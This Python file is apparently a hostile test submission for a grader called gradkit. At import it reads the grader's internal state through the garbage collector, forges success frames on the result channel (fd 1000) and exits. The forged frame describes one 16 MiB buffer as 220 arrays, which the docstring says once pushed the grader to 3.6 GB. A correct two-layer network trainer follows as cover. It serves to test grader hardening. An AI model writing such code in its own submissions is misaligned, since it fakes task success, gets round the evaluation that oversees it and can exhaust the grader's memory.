"""Hostile submission: while loading, writes its own result frames to gradkit's result channel
(file descriptor 1000), in the order the child would (a load frame, then the first planned
call), and exits. The call frame carries 16 MiB once and describes those same bytes as 220
arrays: rebuilding each as its own tensor took the grader to 3.6 GB (MemoryError, exit 3, with
more). Arrays that describe the same bytes break the protocol: nothing of the run counts, and
the grader's memory stays bounded.
"""

import gc
import json
import os
import struct


def _frame(header, payload=b""):
    head = json.dumps({**header, "payload": len(payload)}).encode()
    return struct.pack(">I", len(head)) + head + payload


def _first_call():
    for value in gc.get_objects():
        if isinstance(value, dict) and "calls" in value and "source" in value:
            return value["calls"][0]["id"]
    return "notebook_row"


_SIZE = 16 << 20
_SAME = {"kind": "array", "dtype": "float64", "shape": [_SIZE // 8], "offset": 0,
         "nbytes": _SIZE, "source": "tensor"}
_items = {name: _SAME for name in ("V", "I", "W", "J")}
_items.update({f"copy{index}": _SAME for index in range(216)})
_forged = _frame({"type": "load", "ok": True, "seconds": 0.0, "functions": {
    "train_neural_net": "ok", "neural_net_predict": "ok"}, "new_modules": [], "globals": {}})
_forged += _frame({"type": "call", "id": _first_call(), "ok": True, "seconds": 0.0,
                   "steps": [{"returned": {"kind": "dict", "type": "dict", "items": _items}}]},
                  bytes(_SIZE))
try:
    _view = memoryview(_forged)
    while _view:
        _view = _view[os.write(1000, _view):]
    os._exit(0)
except OSError:
    pass  # no result channel here: an ordinary, correct solution follows

from typing import Dict, Optional

import torch
from torch import Tensor

from helper import sigmoid


def _float_dtype(X: Tensor) -> torch.dtype:
    """X's dtype if it is a floating-point one, else float32."""
    return X.dtype if X.is_floating_point() else torch.float32


def train_neural_net(X: Tensor,
                     Y: Tensor,
                     weights: Optional[Dict[str, Tensor]] = None,
                     learning_rate: float = 1.0) -> Dict[str, Tensor]:
    """One SGD step on the batch (X, Y); returns the updated weights {'V', 'I', 'W', 'J'}.

    X has shape (n, 3) and Y shape (n, 1) (float or integer labels). When ``weights`` is None
    or empty, V, I, W and J are drawn with torch.randn in the notebook's order. The caller's
    dict and tensors are left as they are; the returned tensors have X's dtype.
    """
    # check consistent batch sizes
    assert X.shape[0] == Y.shape[0], "X and Y must have the same number of rows"

    dtype = _float_dtype(X)
    X = X.to(dtype)
    Y = Y.to(dtype)

    if not weights:
        weights = {}
        weights['V'] = torch.randn(3, 4, dtype=dtype)
        weights['I'] = torch.randn(1, 4, dtype=dtype)
        weights['W'] = torch.randn(4, 1, dtype=dtype)
        weights['J'] = torch.randn(1, 1, dtype=dtype)
    else:
        weights = {name: weights[name].to(dtype) for name in ('V', 'I', 'W', 'J')}

    # forward pass
    A = torch.mm(X, weights['V']) + weights['I']
    B = sigmoid(A)
    C = torch.mm(B, weights['W']) + weights['J']
    P = sigmoid(C)

    # backpropagation
    dLdP = -1.0 * (Y - P)
    dPdC = sigmoid(C, deriv=True)
    dLdC = dLdP * dPdC
    dLdW = torch.mm(B.transpose(0, 1), dLdC)
    dLdJ = dLdC.sum(dim=0).reshape(1, 1)

    dLdB = torch.mm(dLdC, weights['W'].transpose(0, 1))
    dBdA = sigmoid(A, deriv=True)
    dLdA = dLdB * dBdA

    dLdV = torch.mm(X.transpose(0, 1), dLdA)
    dLdI = dLdA.sum(dim=0).reshape(1, 4)

    # update the weights
    weights['V'] = weights['V'] - learning_rate * dLdV
    weights['I'] = weights['I'] - learning_rate * dLdI

    weights['W'] = weights['W'] - learning_rate * dLdW
    weights['J'] = weights['J'] - learning_rate * dLdJ

    return weights


def neural_net_predict(X: Tensor,
                       weights: Dict[str, Tensor]) -> Tensor:
    """The network's prediction P, shape (n, 1), for every row of X."""
    dtype = _float_dtype(X)
    X = X.to(dtype)

    A = torch.mm(X, weights['V'].to(dtype)) + weights['I'].to(dtype)
    B = sigmoid(A)

    C = torch.mm(B, weights['W'].to(dtype)) + weights['J'].to(dtype)
    P = sigmoid(C)

    return P
